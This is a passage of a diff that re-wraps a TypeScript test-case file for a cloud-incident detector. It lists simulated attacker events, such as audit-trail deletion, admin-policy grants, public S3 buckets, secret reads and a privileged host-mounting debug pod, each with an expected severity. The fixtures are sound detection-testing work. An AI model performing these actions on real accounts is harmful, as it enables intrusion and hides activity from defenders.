@@ -3,7 +3,21 @@
 
 import type { IncidentEvent } from '../../../src/domain/event.js';
 import type { SeverityLevel } from '../../../src/domain/severity.js';
-import { ANONYMOUS, API_SA, audit, ct, DENIED, falco, finding, FORBIDDEN, getObject, IAM_USER, podCreate, ROOT, SAM } from './fixtures.js';
+import {
+  ANONYMOUS,
+  API_SA,
+  audit,
+  ct,
+  DENIED,
+  falco,
+  finding,
+  FORBIDDEN,
+  getObject,
+  IAM_USER,
+  podCreate,
+  ROOT,
+  SAM,
+} from './fixtures.js';
 
 export interface Case {
   pos: [string, () => IncidentEvent | IncidentEvent[], SeverityLevel][];
@@ -11,21 +25,58 @@ export interface Case {
 }
 
 const trail = { name: 'arn:aws:cloudtrail:eu-west-1:123456789012:trail/prod-audit-trail' };
-const adminDoc = JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] });
-const s3Doc = JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::b/*' }] });
+const adminDoc = JSON.stringify({
+  Version: '2012-10-17',
+  Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }],
+});
+const s3Doc = JSON.stringify({
+  Version: '2012-10-17',
+  Statement: [{ Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::b/*' }],
+});
 const sg = (port: number, cidr = '0.0.0.0/0') => ({
   groupId: 'sg-0a1b2c3d4e5f67890',
-  ipPermissions: { items: [{ ipProtocol: 'tcp', fromPort: port, toPort: port, ipRanges: { items: [{ cidrIp: cidr }] }, ipv6Ranges: {}, prefixListIds: {} }] },
+  ipPermissions: {
+    items: [
+      {
+        ipProtocol: 'tcp',
+        fromPort: port,
+        toPort: port,
+        ipRanges: { items: [{ cidrIp: cidr }] },
+        ipv6Ranges: {},
+        prefixListIds: {},
+      },
+    ],
+  },
 });
-const burst = (n: number, arn?: string) => Array.from({ length: n }, (_, i) => getObject(new Date(Date.parse('2026-04-20T14:36:00Z') + i * 2_000).toISOString(), arn));
+const burst = (n: number, arn?: string) =>
+  Array.from({ length: n }, (_, i) =>
+    getObject(new Date(Date.parse('2026-04-20T14:36:00Z') + i * 2_000).toISOString(), arn),
+  );
 const secretGet = (user: unknown, ua: string, ns = 'payments', more = {}) =>
-  audit({ verb: 'get', user, userAgent: ua, requestURI: `/api/v1/namespaces/${ns}/secrets/db`, objectRef: { resource: 'secrets', namespace: ns, name: 'db', apiVersion: 'v1' }, ...more });
+  audit({
+    verb: 'get',
+    user,
+    userAgent: ua,
+    requestURI: `/api/v1/namespaces/${ns}/secrets/db`,
+    objectRef: { resource: 'secrets', namespace: ns, name: 'db', apiVersion: 'v1' },
+    ...more,
+  });
 const crb = (role: string, more = {}) =>
   audit({
     verb: 'create',
-    objectRef: { resource: 'clusterrolebindings', name: 'payments-api-admin', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' },
+    objectRef: {
+      resource: 'clusterrolebindings',
+      name: 'payments-api-admin',
+      apiGroup: 'rbac.authorization.k8s.io',
+      apiVersion: 'v1',
+    },
     responseStatus: { metadata: {}, code: 201 },
-    requestObject: { kind: 'ClusterRoleBinding', metadata: { name: 'payments-api-admin' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role }, subjects: [{ kind: 'ServiceAccount', name: 'api', namespace: 'payments' }] },
+    requestObject: {
+      kind: 'ClusterRoleBinding',
+      metadata: { name: 'payments-api-admin' },
+      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
+      subjects: [{ kind: 'ServiceAccount', name: 'api', namespace: 'payments' }],
+    },
     ...more,
   });
 const exec = (sub: string, more = {}) =>
@@ -36,17 +87,38 @@ const exec = (sub: string, more = {}) =>
     responseStatus: { metadata: {}, code: 101 },
     ...more,
   });
-const debugPod = { hostPID: true, volumes: [{ name: 'root', hostPath: { path: '/' } }], containers: [{ name: 'd', image: 'busybox', securityContext: { privileged: true } }] };
-const del = (user: unknown, name = 'debugger') => audit({ verb: 'delete', user, objectRef: { resource: 'pods', namespace: 'payments', name, apiVersion: 'v1' } });
+const debugPod = {
+  hostPID: true,
+  volumes: [{ name: 'root', hostPath: { path: '/' } }],
+  containers: [{ name: 'd', image: 'busybox', securityContext: { privileged: true } }],
+};
+const del = (user: unknown, name = 'debugger') =>
+  audit({ verb: 'delete', user, objectRef: { resource: 'pods', namespace: 'payments', name, apiVersion: 'v1' } });
 
 export const CASES: Record<string, Case> = {
   'cloudtrail.trail-tampering': {
     pos: [
       ['StopLogging succeeded', () => ct('cloudtrail.amazonaws.com', 'StopLogging', { requestParameters: trail }), 0],
-      ['StopLogging denied is one lower', () => ct('cloudtrail.amazonaws.com', 'StopLogging', { requestParameters: trail, ...DENIED }), 1],
+      [
+        'StopLogging denied is one lower',
+        () => ct('cloudtrail.amazonaws.com', 'StopLogging', { requestParameters: trail, ...DENIED }),
+        1,
+      ],
       ['DeleteTrail', () => ct('cloudtrail.amazonaws.com', 'DeleteTrail', { requestParameters: trail }), 0],
-      ['UpdateTrail', () => ct('cloudtrail.amazonaws.com', 'UpdateTrail', { requestParameters: { ...trail, s3BucketName: 'x' } }), 1],
-      ['PutEventSelectors denied', () => ct('cloudtrail.amazonaws.com', 'PutEventSelectors', { requestParameters: { trailName: 'prod-audit-trail', eventSelectors: [] }, ...DENIED }), 2],
+      [
+        'UpdateTrail',
+        () => ct('cloudtrail.amazonaws.com', 'UpdateTrail', { requestParameters: { ...trail, s3BucketName: 'x' } }),
+        1,
+      ],
+      [
+        'PutEventSelectors denied',
+        () =>
+          ct('cloudtrail.amazonaws.com', 'PutEventSelectors', {
+            requestParameters: { trailName: 'prod-audit-trail', eventSelectors: [] },
+            ...DENIED,
+          }),
+        2,
+      ],
     ],
     neg: [
       ['DescribeTrails', () => ct('cloudtrail.amazonaws.com', 'DescribeTrails')],
@@ -57,30 +129,110 @@ export const CASES: Record<string, Case> = {
   'cloudtrail.root-activity': {
     pos: [
       ['root API call', () => ct('iam.amazonaws.com', 'ListUsers', { userIdentity: ROOT }), 1],
-      ['root console sign-in failed', () => ct('signin.amazonaws.com', 'ConsoleLogin', { userIdentity: ROOT, eventType: 'AwsConsoleSignIn', responseElements: { ConsoleLogin: 'Failure' }, errorMessage: 'Failed authentication' }), 2],
+      [
+        'root console sign-in failed',
+        () =>
+          ct('signin.amazonaws.com', 'ConsoleLogin', {
+            userIdentity: ROOT,
+            eventType: 'AwsConsoleSignIn',
+            responseElements: { ConsoleLogin: 'Failure' },
+            errorMessage: 'Failed authentication',
+          }),
+        2,
+      ],
     ],
     neg: [
       ['IAM user', () => ct('iam.amazonaws.com', 'ListUsers', { userIdentity: IAM_USER })],
-      ['service acting for root', () => ct('s3.amazonaws.com', 'PutObject', { userIdentity: { ...ROOT, invokedBy: 'cloudtrail.amazonaws.com' } })],
+      [
+        'service acting for root',
+        () => ct('s3.amazonaws.com', 'PutObject', { userIdentity: { ...ROOT, invokedBy: 'cloudtrail.amazonaws.com' } }),
+      ],
     ],
   },
   'cloudtrail.console-login-no-mfa': {
     pos: [
-      ['IAM user without MFA', () => ct('signin.amazonaws.com', 'ConsoleLogin', { userIdentity: IAM_USER, eventType: 'AwsConsoleSignIn', responseElements: { ConsoleLogin: 'Success' }, additionalEventData: { MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com' } }), 2],
-      ['failed, one lower', () => ct('signin.amazonaws.com', 'ConsoleLogin', { userIdentity: IAM_USER, eventType: 'AwsConsoleSignIn', responseElements: { ConsoleLogin: 'Failure' }, additionalEventData: { MFAUsed: 'No' } }), 3],
+      [
+        'IAM user without MFA',
+        () =>
+          ct('signin.amazonaws.com', 'ConsoleLogin', {
+            userIdentity: IAM_USER,
+            eventType: 'AwsConsoleSignIn',
+            responseElements: { ConsoleLogin: 'Success' },
+            additionalEventData: { MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com' },
+          }),
+        2,
+      ],
+      [
+        'failed, one lower',
+        () =>
+          ct('signin.amazonaws.com', 'ConsoleLogin', {
+            userIdentity: IAM_USER,
+            eventType: 'AwsConsoleSignIn',
+            responseElements: { ConsoleLogin: 'Failure' },
+            additionalEventData: { MFAUsed: 'No' },
+          }),
+        3,
+      ],
     ],
     neg: [
-      ['with MFA', () => ct('signin.amazonaws.com', 'ConsoleLogin', { userIdentity: IAM_USER, responseElements: { ConsoleLogin: 'Success' }, additionalEventData: { MFAUsed: 'Yes' } })],
-      ['federated (SSO) sign-in', () => ct('signin.amazonaws.com', 'ConsoleLogin', { responseElements: { ConsoleLogin: 'Success' }, additionalEventData: { MFAUsed: 'No' } })],
-      ['MFAUsed missing', () => ct('signin.amazonaws.com', 'ConsoleLogin', { userIdentity: IAM_USER, responseElements: { ConsoleLogin: 'Success' } })],
+      [
+        'with MFA',
+        () =>
+          ct('signin.amazonaws.com', 'ConsoleLogin', {
+            userIdentity: IAM_USER,
+            responseElements: { ConsoleLogin: 'Success' },
+            additionalEventData: { MFAUsed: 'Yes' },
+          }),
+      ],
+      [
+        'federated (SSO) sign-in',
+        () =>
+          ct('signin.amazonaws.com', 'ConsoleLogin', {
+            responseElements: { ConsoleLogin: 'Success' },
+            additionalEventData: { MFAUsed: 'No' },
+          }),
+      ],
+      [
+        'MFAUsed missing',
+        () =>
+          ct('signin.amazonaws.com', 'ConsoleLogin', {
+            userIdentity: IAM_USER,
+            responseElements: { ConsoleLogin: 'Success' },
+          }),
+      ],
     ],
   },
   'cloudtrail.iam-new-access-key': {
     pos: [
-      ['for another user by a role', () => ct('iam.amazonaws.com', 'CreateAccessKey', { requestParameters: { userName: 'dba-breakglass' } }), 1],
-      ['for another user, denied', () => ct('iam.amazonaws.com', 'CreateAccessKey', { requestParameters: { userName: 'dba-breakglass' }, ...DENIED }), 2],
-      ['for another user by an IAM user', () => ct('iam.amazonaws.com', 'CreateAccessKey', { userIdentity: IAM_USER, requestParameters: { userName: 'bob' } }), 1],
-      ['for oneself (policy only)', () => ct('iam.amazonaws.com', 'CreateAccessKey', { userIdentity: IAM_USER, requestParameters: { userName: 'alice' } }), 3],
+      [
+        'for another user by a role',
+        () => ct('iam.amazonaws.com', 'CreateAccessKey', { requestParameters: { userName: 'dba-breakglass' } }),
+        1,
+      ],
+      [
+        'for another user, denied',
+        () =>
+          ct('iam.amazonaws.com', 'CreateAccessKey', { requestParameters: { userName: 'dba-breakglass' }, ...DENIED }),
+        2,
+      ],
+      [
+        'for another user by an IAM user',
+        () =>
+          ct('iam.amazonaws.com', 'CreateAccessKey', {
+            userIdentity: IAM_USER,
+            requestParameters: { userName: 'bob' },
+          }),
+        1,
+      ],
+      [
+        'for oneself (policy only)',
+        () =>
+          ct('iam.amazonaws.com', 'CreateAccessKey', {
+            userIdentity: IAM_USER,
+            requestParameters: { userName: 'alice' },
+          }),
+        3,
+      ],
     ],
     neg: [
       ['for oneself, denied', () => ct('iam.amazonaws.com', 'CreateAccessKey', { userIdentity: IAM_USER, ...DENIED })],
@@ -90,101 +242,443 @@ export const CASES: Record<string, Case> = {
   'cloudtrail.iam-new-user': {
     pos: [
       ['CreateUser', () => ct('iam.amazonaws.com', 'CreateUser', { requestParameters: { userName: 'backup-svc' } }), 2],
-      ['CreateLoginProfile denied', () => ct('iam.amazonaws.com', 'CreateLoginProfile', { requestParameters: { userName: 'svc-orders-reporting' }, ...DENIED }), 3],
-      ['UpdateLoginProfile of someone else', () => ct('iam.amazonaws.com', 'UpdateLoginProfile', { userIdentity: IAM_USER, requestParameters: { userName: 'bob' } }), 2],
+      [
+        'CreateLoginProfile denied',
+        () =>
+          ct('iam.amazonaws.com', 'CreateLoginProfile', {
+            requestParameters: { userName: 'svc-orders-reporting' },
+            ...DENIED,
+          }),
+        3,
+      ],
+      [
+        'UpdateLoginProfile of someone else',
+        () =>
+          ct('iam.amazonaws.com', 'UpdateLoginProfile', {
+            userIdentity: IAM_USER,
+            requestParameters: { userName: 'bob' },
+          }),
+        2,
+      ],
     ],
     neg: [
-      ['own password change', () => ct('iam.amazonaws.com', 'UpdateLoginProfile', { userIdentity: IAM_USER, requestParameters: { userName: 'alice' } })],
+      [
+        'own password change',
+        () =>
+          ct('iam.amazonaws.com', 'UpdateLoginProfile', {
+            userIdentity: IAM_USER,
+            requestParameters: { userName: 'alice' },
+          }),
+      ],
       ['GetUser', () => ct('iam.amazonaws.com', 'GetUser', { requestParameters: { userName: 'bob' } })],
     ],
   },
   'cloudtrail.iam-admin-policy': {
     pos: [
-      ['AttachRolePolicy AdministratorAccess', () => ct('iam.amazonaws.com', 'AttachRolePolicy', { requestParameters: { roleName: 'orders-api-prod', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' } }), 1],
-      ['AttachUserPolicy denied', () => ct('iam.amazonaws.com', 'AttachUserPolicy', { requestParameters: { userName: 'x', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }, ...DENIED }), 2],
-      ['PutUserPolicy * on *', () => ct('iam.amazonaws.com', 'PutUserPolicy', { requestParameters: { userName: 'x', policyName: 'p', policyDocument: adminDoc } }), 1],
-      ['PutGroupPolicy URL-encoded, list form', () => ct('iam.amazonaws.com', 'PutGroupPolicy', { requestParameters: { groupName: 'g', policyName: 'p', policyDocument: encodeURIComponent(JSON.stringify({ Statement: { Effect: 'Allow', Action: ['*'], Resource: ['*'] } })) } }), 1],
+      [
+        'AttachRolePolicy AdministratorAccess',
+        () =>
+          ct('iam.amazonaws.com', 'AttachRolePolicy', {
+            requestParameters: {
+              roleName: 'orders-api-prod',
+              policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
+            },
+          }),
+        1,
+      ],
+      [
+        'AttachUserPolicy denied',
+        () =>
+          ct('iam.amazonaws.com', 'AttachUserPolicy', {
+            requestParameters: { userName: 'x', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
+            ...DENIED,
+          }),
+        2,
+      ],
+      [
+        'PutUserPolicy * on *',
+        () =>
+          ct('iam.amazonaws.com', 'PutUserPolicy', {
+            requestParameters: { userName: 'x', policyName: 'p', policyDocument: adminDoc },
+          }),
+        1,
+      ],
+      [
+        'PutGroupPolicy URL-encoded, list form',
+        () =>
+          ct('iam.amazonaws.com', 'PutGroupPolicy', {
+            requestParameters: {
+              groupName: 'g',
+              policyName: 'p',
+              policyDocument: encodeURIComponent(
+                JSON.stringify({ Statement: { Effect: 'Allow', Action: ['*'], Resource: ['*'] } }),
+              ),
+            },
+          }),
+        1,
+      ],
     ],
     neg: [
-      ['ReadOnlyAccess', () => ct('iam.amazonaws.com', 'AttachRolePolicy', { requestParameters: { roleName: 'r', policyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' } })],
-      ['customer policy named AdministratorAccess', () => ct('iam.amazonaws.com', 'AttachRolePolicy', { requestParameters: { roleName: 'r', policyArn: 'arn:aws:iam::123456789012:policy/AdministratorAccess-lookalike' } })],
-      ['scoped inline policy', () => ct('iam.amazonaws.com', 'PutRolePolicy', { requestParameters: { roleName: 'r', policyName: 'p', policyDocument: s3Doc } })],
-      ['Deny * on *', () => ct('iam.amazonaws.com', 'PutRolePolicy', { requestParameters: { roleName: 'r', policyName: 'p', policyDocument: JSON.stringify({ Statement: [{ Effect: 'Deny', Action: '*', Resource: '*' }] }) } })],
+      [
+        'ReadOnlyAccess',
+        () =>
+          ct('iam.amazonaws.com', 'AttachRolePolicy', {
+            requestParameters: { roleName: 'r', policyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' },
+          }),
+      ],
+      [
+        'customer policy named AdministratorAccess',
+        () =>
+          ct('iam.amazonaws.com', 'AttachRolePolicy', {
+            requestParameters: {
+              roleName: 'r',
+              policyArn: 'arn:aws:iam::123456789012:policy/AdministratorAccess-lookalike',
+            },
+          }),
+      ],
+      [
+        'scoped inline policy',
+        () =>
+          ct('iam.amazonaws.com', 'PutRolePolicy', {
+            requestParameters: { roleName: 'r', policyName: 'p', policyDocument: s3Doc },
+          }),
+      ],
+      [
+        'Deny * on *',
+        () =>
+          ct('iam.amazonaws.com', 'PutRolePolicy', {
+            requestParameters: {
+              roleName: 'r',
+              policyName: 'p',
+              policyDocument: JSON.stringify({ Statement: [{ Effect: 'Deny', Action: '*', Resource: '*' }] }),
+            },
+          }),
+      ],
     ],
   },
   'cloudtrail.iam-trust-policy': {
     pos: [
-      ['trust opened to anyone', () => ct('iam.amazonaws.com', 'UpdateAssumeRolePolicy', { requestParameters: { roleName: 'orders-api-prod', policyDocument: JSON.stringify({ Statement: [{ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' }] }) } }), 1],
-      ['trust changed', () => ct('iam.amazonaws.com', 'UpdateAssumeRolePolicy', { requestParameters: { roleName: 'r', policyDocument: JSON.stringify({ Statement: [{ Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::210987654321:root' }, Action: 'sts:AssumeRole' }] }) } }), 2],
+      [
+        'trust opened to anyone',
+        () =>
+          ct('iam.amazonaws.com', 'UpdateAssumeRolePolicy', {
+            requestParameters: {
+              roleName: 'orders-api-prod',
+              policyDocument: JSON.stringify({
+                Statement: [{ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' }],
+              }),
+            },
+          }),
+        1,
+      ],
+      [
+        'trust changed',
+        () =>
+          ct('iam.amazonaws.com', 'UpdateAssumeRolePolicy', {
+            requestParameters: {
+              roleName: 'r',
+              policyDocument: JSON.stringify({
+                Statement: [
+                  { Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::210987654321:root' }, Action: 'sts:AssumeRole' },
+                ],
+              }),
+            },
+          }),
+        2,
+      ],
     ],
     neg: [['GetRole', () => ct('iam.amazonaws.com', 'GetRole', { requestParameters: { roleName: 'r' } })]],
   },
   'cloudtrail.guardduty-disabled': {
     pos: [
-      ['DeleteDetector', () => ct('guardduty.amazonaws.com', 'DeleteDetector', { requestParameters: { detectorId: 'abc' } }), 1],
-      ['UpdateDetector enable=false denied', () => ct('guardduty.amazonaws.com', 'UpdateDetector', { requestParameters: { detectorId: 'abc', enable: false }, ...DENIED }), 2],
-      ['auto-archive filter', () => ct('guardduty.amazonaws.com', 'CreateFilter', { requestParameters: { detectorId: 'abc', name: 'quiet', action: 'ARCHIVE', findingCriteria: {} } }), 1],
+      [
+        'DeleteDetector',
+        () => ct('guardduty.amazonaws.com', 'DeleteDetector', { requestParameters: { detectorId: 'abc' } }),
+        1,
+      ],
+      [
+        'UpdateDetector enable=false denied',
+        () =>
+          ct('guardduty.amazonaws.com', 'UpdateDetector', {
+            requestParameters: { detectorId: 'abc', enable: false },
+            ...DENIED,
+          }),
+        2,
+      ],
+      [
+        'auto-archive filter',
+        () =>
+          ct('guardduty.amazonaws.com', 'CreateFilter', {
+            requestParameters: { detectorId: 'abc', name: 'quiet', action: 'ARCHIVE', findingCriteria: {} },
+          }),
+        1,
+      ],
     ],
     neg: [
-      ['UpdateDetector publishing frequency', () => ct('guardduty.amazonaws.com', 'UpdateDetector', { requestParameters: { detectorId: 'abc', findingPublishingFrequency: 'FIFTEEN_MINUTES' } })],
-      ['CreateFilter NOOP', () => ct('guardduty.amazonaws.com', 'CreateFilter', { requestParameters: { detectorId: 'abc', action: 'NOOP' } })],
+      [
+        'UpdateDetector publishing frequency',
+        () =>
+          ct('guardduty.amazonaws.com', 'UpdateDetector', {
+            requestParameters: { detectorId: 'abc', findingPublishingFrequency: 'FIFTEEN_MINUTES' },
+          }),
+      ],
+      [
+        'CreateFilter NOOP',
+        () =>
+          ct('guardduty.amazonaws.com', 'CreateFilter', { requestParameters: { detectorId: 'abc', action: 'NOOP' } }),
+      ],
       ['ListDetectors', () => ct('guardduty.amazonaws.com', 'ListDetectors', DENIED)],
     ],
   },
   'cloudtrail.flow-logs-deleted': {
-    pos: [['DeleteFlowLogs', () => ct('ec2.amazonaws.com', 'DeleteFlowLogs', { requestParameters: { DeleteFlowLogsRequest: { FlowLogId: { content: 'fl-1', tag: 1 } } } }), 2]],
+    pos: [
+      [
+        'DeleteFlowLogs',
+        () =>
+          ct('ec2.amazonaws.com', 'DeleteFlowLogs', {
+            requestParameters: { DeleteFlowLogsRequest: { FlowLogId: { content: 'fl-1', tag: 1 } } },
+          }),
+        2,
+      ],
+    ],
     neg: [['CreateFlowLogs', () => ct('ec2.amazonaws.com', 'CreateFlowLogs')]],
   },
   'cloudtrail.config-stopped': {
-    pos: [['StopConfigurationRecorder', () => ct('config.amazonaws.com', 'StopConfigurationRecorder', { requestParameters: { configurationRecorderName: 'default' } }), 2]],
+    pos: [
+      [
+        'StopConfigurationRecorder',
+        () =>
+          ct('config.amazonaws.com', 'StopConfigurationRecorder', {
+            requestParameters: { configurationRecorderName: 'default' },
+          }),
+        2,
+      ],
+    ],
     neg: [['StartConfigurationRecorder', () => ct('config.amazonaws.com', 'StartConfigurationRecorder')]],
   },
   'cloudtrail.kms-key-deletion': {
     pos: [
-      ['ScheduleKeyDeletion', () => ct('kms.amazonaws.com', 'ScheduleKeyDeletion', { requestParameters: { keyId: 'arn:aws:kms:eu-west-1:123456789012:key/1234', pendingWindowInDays: 7 } }), 1],
-      ['DisableKey denied', () => ct('kms.amazonaws.com', 'DisableKey', { requestParameters: { keyId: '1234' }, ...DENIED }), 2],
+      [
+        'ScheduleKeyDeletion',
+        () =>
+          ct('kms.amazonaws.com', 'ScheduleKeyDeletion', {
+            requestParameters: { keyId: 'arn:aws:kms:eu-west-1:123456789012:key/1234', pendingWindowInDays: 7 },
+          }),
+        1,
+      ],
+      [
+        'DisableKey denied',
+        () => ct('kms.amazonaws.com', 'DisableKey', { requestParameters: { keyId: '1234' }, ...DENIED }),
+        2,
+      ],
     ],
     neg: [['Decrypt', () => ct('kms.amazonaws.com', 'Decrypt', { requestParameters: { keyId: '1234' } })]],
   },
   'cloudtrail.sg-open-admin-port': {
     pos: [
-      ['22 to the world', () => ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: sg(22) }), 2],
-      ['all protocols, ::/0', () => ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: { groupId: 'sg-1', ipPermissions: { items: [{ ipProtocol: '-1', ipRanges: {}, ipv6Ranges: { items: [{ cidrIpv6: '::/0' }] } }] } } }), 2],
-      ['3389 inside a range, denied', () => ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: { groupId: 'sg-1', ipPermissions: { items: [{ ipProtocol: 'tcp', fromPort: 3000, toPort: 4000, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } }] } }, ...DENIED }), 3],
+      [
+        '22 to the world',
+        () => ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: sg(22) }),
+        2,
+      ],
+      [
+        'all protocols, ::/0',
+        () =>
+          ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', {
+            requestParameters: {
+              groupId: 'sg-1',
+              ipPermissions: {
+                items: [{ ipProtocol: '-1', ipRanges: {}, ipv6Ranges: { items: [{ cidrIpv6: '::/0' }] } }],
+              },
+            },
+          }),
+        2,
+      ],
+      [
+        '3389 inside a range, denied',
+        () =>
+          ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', {
+            requestParameters: {
+              groupId: 'sg-1',
+              ipPermissions: {
+                items: [
+                  { ipProtocol: 'tcp', fromPort: 3000, toPort: 4000, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } },
+                ],
+              },
+            },
+            ...DENIED,
+          }),
+        3,
+      ],
     ],
     neg: [
-      ['443 to the world', () => ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: sg(443) })],
-      ['22 from the office', () => ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: sg(22, '198.51.100.0/24') })],
+      [
+        '443 to the world',
+        () => ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: sg(443) }),
+      ],
+      [
+        '22 from the office',
+        () =>
+          ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: sg(22, '198.51.100.0/24') }),
+      ],
     ],
   },
   'cloudtrail.s3-public-bucket': {
     pos: [
-      ['policy Principal *', () => ct('s3.amazonaws.com', 'PutBucketPolicy', { requestParameters: { bucketName: 'orders-prod-data', bucketPolicy: { Version: '2012-10-17', Statement: [{ Sid: 'x', Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: 'arn:aws:s3:::orders-prod-data/*' }] }, policy: '' } }), 1],
-      ['policy Principal {AWS:*}, denied', () => ct('s3.amazonaws.com', 'PutBucketPolicy', { requestParameters: { bucketName: 'b', bucketPolicy: { Statement: [{ Effect: 'Allow', Principal: { AWS: ['*'] }, Action: 's3:*', Resource: '*' }] } }, ...DENIED }), 2],
-      ['ACL AllUsers', () => ct('s3.amazonaws.com', 'PutBucketAcl', { requestParameters: { bucketName: 'b', AccessControlPolicy: { AccessControlList: { Grant: [{ Grantee: { 'xsi:type': 'Group', URI: 'http://acs.amazonaws.com/groups/global/AllUsers' }, Permission: 'READ' }] } } } }), 1],
-      ['canned public-read', () => ct('s3.amazonaws.com', 'PutBucketAcl', { requestParameters: { bucketName: 'b', 'x-amz-acl': ['public-read'] } }), 1],
+      [
+        'policy Principal *',
+        () =>
+          ct('s3.amazonaws.com', 'PutBucketPolicy', {
+            requestParameters: {
+              bucketName: 'orders-prod-data',
+              bucketPolicy: {
+                Version: '2012-10-17',
+                Statement: [
+                  {
+                    Sid: 'x',
+                    Effect: 'Allow',
+                    Principal: '*',
+                    Action: 's3:GetObject',
+                    Resource: 'arn:aws:s3:::orders-prod-data/*',
+                  },
+                ],
+              },
+              policy: '',
+            },
+          }),
+        1,
+      ],
+      [
+        'policy Principal {AWS:*}, denied',
+        () =>
+          ct('s3.amazonaws.com', 'PutBucketPolicy', {
+            requestParameters: {
+              bucketName: 'b',
+              bucketPolicy: {
+                Statement: [{ Effect: 'Allow', Principal: { AWS: ['*'] }, Action: 's3:*', Resource: '*' }],
+              },
+            },
+            ...DENIED,
+          }),
+        2,
+      ],
+      [
+        'ACL AllUsers',
+        () =>
+          ct('s3.amazonaws.com', 'PutBucketAcl', {
+            requestParameters: {
+              bucketName: 'b',
+              AccessControlPolicy: {
+                AccessControlList: {
+                  Grant: [
+                    {
+                      Grantee: { 'xsi:type': 'Group', URI: 'http://acs.amazonaws.com/groups/global/AllUsers' },
+                      Permission: 'READ',
+                    },
+                  ],
+                },
+              },
+            },
+          }),
+        1,
+      ],
+      [
+        'canned public-read',
+        () =>
+          ct('s3.amazonaws.com', 'PutBucketAcl', {
+            requestParameters: { bucketName: 'b', 'x-amz-acl': ['public-read'] },
+          }),
+        1,
+      ],
     ],
     neg: [
-      ['Principal * with a VPC endpoint condition', () => ct('s3.amazonaws.com', 'PutBucketPolicy', { requestParameters: { bucketName: 'b', bucketPolicy: { Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: '*', Condition: { StringEquals: { 'aws:SourceVpce': 'vpce-1' } } }] } } })],
-      ['ACL for the owner only', () => ct('s3.amazonaws.com', 'PutBucketAcl', { requestParameters: { bucketName: 'b', AccessControlPolicy: { AccessControlList: { Grant: { Grantee: { 'xsi:type': 'CanonicalUser', ID: 'abc' }, Permission: 'FULL_CONTROL' } } } } })],
-      ['Deny Principal *', () => ct('s3.amazonaws.com', 'PutBucketPolicy', { requestParameters: { bucketName: 'b', bucketPolicy: { Statement: [{ Effect: 'Deny', Principal: '*', Action: 's3:*', Resource: '*' }] } } })],
+      [
+        'Principal * with a VPC endpoint condition',
+        () =>
+          ct('s3.amazonaws.com', 'PutBucketPolicy', {
+            requestParameters: {
+              bucketName: 'b',
+              bucketPolicy: {
+                Statement: [
+                  {
+                    Effect: 'Allow',
+                    Principal: '*',
+                    Action: 's3:GetObject',
+                    Resource: '*',
+                    Condition: { StringEquals: { 'aws:SourceVpce': 'vpce-1' } },
+                  },
+                ],
+              },
+            },
+          }),
+      ],
+      [
+        'ACL for the owner only',
+        () =>
+          ct('s3.amazonaws.com', 'PutBucketAcl', {
+            requestParameters: {
+              bucketName: 'b',
+              AccessControlPolicy: {
+                AccessControlList: {
+                  Grant: { Grantee: { 'xsi:type': 'CanonicalUser', ID: 'abc' }, Permission: 'FULL_CONTROL' },
+                },
+              },
+            },
+          }),
+      ],
+      [
+        'Deny Principal *',
+        () =>
+          ct('s3.amazonaws.com', 'PutBucketPolicy', {
+            requestParameters: {
+              bucketName: 'b',
+              bucketPolicy: { Statement: [{ Effect: 'Deny', Principal: '*', Action: 's3:*', Resource: '*' }] },
+            },
+          }),
+      ],
     ],
   },
   'cloudtrail.s3-public-access-block-removed': {
     pos: [
-      ['bucket', () => ct('s3.amazonaws.com', 'DeletePublicAccessBlock', { requestParameters: { bucketName: 'orders-prod-data', publicAccessBlock: '' } }), 2],
-      ['denied', () => ct('s3.amazonaws.com', 'DeletePublicAccessBlock', { requestParameters: { bucketName: 'b' }, ...DENIED }), 3],
+      [
+        'bucket',
+        () =>
+          ct('s3.amazonaws.com', 'DeletePublicAccessBlock', {
+            requestParameters: { bucketName: 'orders-prod-data', publicAccessBlock: '' },
+          }),
+        2,
+      ],
+      [
+        'denied',
+        () => ct('s3.amazonaws.com', 'DeletePublicAccessBlock', { requestParameters: { bucketName: 'b' }, ...DENIED }),
+        3,
+      ],
     ],
-    neg: [['PutPublicAccessBlock', () => ct('s3.amazonaws.com', 'PutPublicAccessBlock', { requestParameters: { bucketName: 'b' } })]],
+    neg: [
+      [
+        'PutPublicAccessBlock',
+        () => ct('s3.amazonaws.com', 'PutPublicAccessBlock', { requestParameters: { bucketName: 'b' } }),
+      ],
